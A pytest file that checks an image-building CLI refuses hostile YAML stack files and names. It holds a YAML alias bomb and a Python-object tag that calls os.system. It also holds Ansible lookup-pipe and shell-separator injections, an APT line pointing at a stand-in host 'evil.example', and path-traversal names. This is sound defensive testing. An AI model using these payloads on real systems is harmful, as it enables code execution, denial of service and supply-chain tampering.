"""Hostile stack files and stack names: exit 2, the file named, no traceback, no hang.

Every case runs the installed ``imagectl`` in a subprocess with a time limit against a
copy of the workspace holding one bad stack file. The schema is the first defence against
code in a stack value (test_ansible_unsafe.py tests the second one alone).
"""

from __future__ import annotations

import os
import uuid
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from tests.support import REPO

# The billion laughs (a YAML alias bomb): 1.4 KB that expands to 9^9 strings.
LAUGHS = "\n".join(
    [
        'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
        *(
            f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]"
            for i in range(8)
        ),
    ]
)


def _write(ws: Path, name: str, data: bytes | str) -> Path:
    path = ws / "images" / "stacks" / f"{name}.yaml"
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


def _local_with(**changes: object) -> str:
    doc = yaml.safe_load((REPO / "images" / "stacks" / "local.yaml").read_text())
    doc["name"] = "evil"
    for dotted, value in changes.items():
        node = doc
        *parents, last = dotted.split("__")
        for p in parents:
            node = node[p]
        node[last] = value
    return yaml.safe_dump(doc)


CASES: dict[str, tuple[Callable[[], bytes | str], str]] = {
    "billion-laughs": (lambda: LAUGHS, "aliases"),
    "recursive-alias": (lambda: "a: &a [1, *a]\n", "alias"),
    "deep-nesting": (lambda: "name: " + "[" * 50_000 + "]" * 50_000 + "\n", "nested more than"),
    "deep-mapping": (
        lambda: "".join(f"{' ' * i}k{i}:\n" for i in range(200)) + "  " * 200 + "x\n",
        "nested more than",
    ),
    "non-scalar-key": (lambda: "? [a, b]\n: 1\nname: x\n", "a key must be a plain word"),
    "non-utf8": (lambda: b"name: caf\xe9\n", "not UTF-8"),
    "huge-integer": (lambda: "schema_version: " + "9" * 5000 + "\n", "digits long"),
    "huge-file": (lambda: "# " + "x" * (50 * 1024 * 1024) + "\n", "larger than"),
    "not-a-mapping": (lambda: "- a\n- b\n", "must be a YAML mapping"),
    "python-tag": (
        lambda: "name: !!python/object/apply:os.system ['touch /tmp/imagectl-PWNED']\n",
        "name",
    ),
    "broken-yaml": (lambda: "name: [unclosed\n", "expected ',' or ']'"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_a_hostile_stack_file_is_refused(case: str, workspace_copy: Path, hostile) -> None:
    make, expected = CASES[case]
    path = _write(workspace_copy, case, make())
    for args in (
        ("lint", "--stack", case),
        ("plan", "--stack", case, "--out", str(workspace_copy / "plan")),
    ):
        res = hostile("--root", str(workspace_copy), *args, timeout=20)
        assert str(path) in res.text or path.name in res.text, res.text
        assert expected in res.text, res.text
    assert not (workspace_copy / "plan").exists()


def test_a_stack_file_linked_to_dev_zero_is_refused(workspace_copy: Path, hostile) -> None:
    path = workspace_copy / "images" / "stacks" / "zero.yaml"
    os.symlink("/dev/zero", path)
    res = hostile("--root", str(workspace_copy), "lint", timeout=20)
    assert "zero.yaml" in res.text and "not a regular file" in res.text


def test_drift_refuses_the_alias_bomb(workspace_copy: Path, hostile) -> None:
    _write(workspace_copy, "laughs", LAUGHS)
    res = hostile("--root", str(workspace_copy), "drift", "--stack", "laughs", timeout=20)
    assert "laughs.yaml" in res.text and "aliases" in res.text


# Code and line breaks in stack values: the schema's patterns refuse them (first defence).
LOOKUP = "{{ lookup('pipe', 'touch MARKER') }}"
APT_LINE = "\ndeb [trusted=yes] http://evil.example/ ./"
PAYLOADS = {
    "package-version-lookup": {"clouds__local__packages": {"jq": f"1.6-2{LOOKUP}"}},
    "package-name-template": {"clouds__local__packages": {LOOKUP: "1.0"}},
    "mirror-newline": {"clouds__local__mirror": f"http://deb.debian.org/debian{APT_LINE}"},
    "kernel-newline": {"clouds__local__kernel": "6.1.0-56-cloud-amd64\n"},
    "region-shell": {"clouds__local__regions": ["local-a; touch MARKER"]},
    "description-template": {"description": LOOKUP},
}


@pytest.mark.parametrize("case", sorted(PAYLOADS))
def test_code_in_a_stack_value_is_refused_by_the_schema(
    case: str, workspace_copy: Path, hostile, tmp_path: Path
) -> None:
    marker = tmp_path / f"PWNED-{uuid.uuid4().hex}"
    text = _local_with(**PAYLOADS[case]).replace("MARKER", str(marker))
    path = _write(workspace_copy, "evil", text)
    for args in (
        ("lint", "--stack", "evil"),
        ("plan", "--stack", "evil", "--out", str(tmp_path / "p")),
    ):
        res = hostile("--root", str(workspace_copy), *args, timeout=20)
        assert str(path) in res.text and "is not allowed here" in res.text, res.text
    assert not marker.exists() and not (tmp_path / "p").exists()


def test_doca_ofed_with_an_apt_source_line_is_refused(workspace_copy: Path, hostile) -> None:
    doc = yaml.safe_load((REPO / "images" / "stacks" / "h100-training.yaml").read_text())
    doc["network"]["infiniband"]["doca_ofed"] = f"3.1.0{APT_LINE}"
    doc["name"] = "evil-ib"
    path = _write(workspace_copy, "evil-ib", yaml.safe_dump(doc))
    res = hostile("--root", str(workspace_copy), "lint", "--stack", "evil-ib", timeout=20)
    assert str(path) in res.text and "network.infiniband.doca_ofed" in res.text


@pytest.mark.parametrize(
    "args",
    [
        ("lint", "--stack", "../../etc/passwd"),
        ("plan", "--stack", "../stacks/local"),
        ("status", "--stack", "../../x"),
        ("status", "--stack", "nope"),
        ("build", "--stack", "/etc/hostname", "--cloud", "local", "--dry-run"),
        ("promote", "--stack", "../../x", "--dry-run"),
        ("rollback", "--stack", "../x"),
    ],
    ids=lambda a: " ".join(a),
)
def test_a_stack_name_is_never_a_path(args: tuple[str, ...], hostile) -> None:
    res = hostile("--root", str(REPO), *args, timeout=30)
    name = args[args.index("--stack") + 1]
    assert name in res.text and ("not a stack name" in res.text or "no stack named" in res.text)


def test_build_id_cannot_leave_the_state_folder(hostile, tmp_path: Path) -> None:
    state = Path(os.environ["IMAGECTL_STATE_DIR"])
    res = hostile(
        "--root", str(REPO), "build", "--stack", "local", "--cloud", "local", "--dry-run",
        "--build-id", "../../escaped",
    )  # fmt: skip
    assert "--build-id '../../escaped' is not a build id" in res.text
    assert not (state.parent / "escaped").exists() and not (state / "builds").exists()


def test_build_var_must_be_a_declared_variable(hostile) -> None:
    res = hostile(
        "--root", str(REPO), "build", "--stack", "local", "--cloud", "local", "--dry-run",
        "--var", "local_acelerator=kvm",
    )  # fmt: skip
    assert "--var 'local_acelerator'" in res.text and "local_accelerator" in res.text
